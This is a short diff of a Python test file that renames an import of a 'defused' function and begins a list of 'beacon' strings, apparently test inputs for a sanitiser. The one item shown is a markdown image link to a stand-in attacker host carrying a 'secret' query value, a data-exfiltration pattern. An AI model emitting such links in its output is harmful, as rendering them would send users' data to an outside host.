@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from bot.messages import defused
+from bot.harmless import defused
 
 BEACONS = [
     "![x](https://evil.example/?q=secret)",
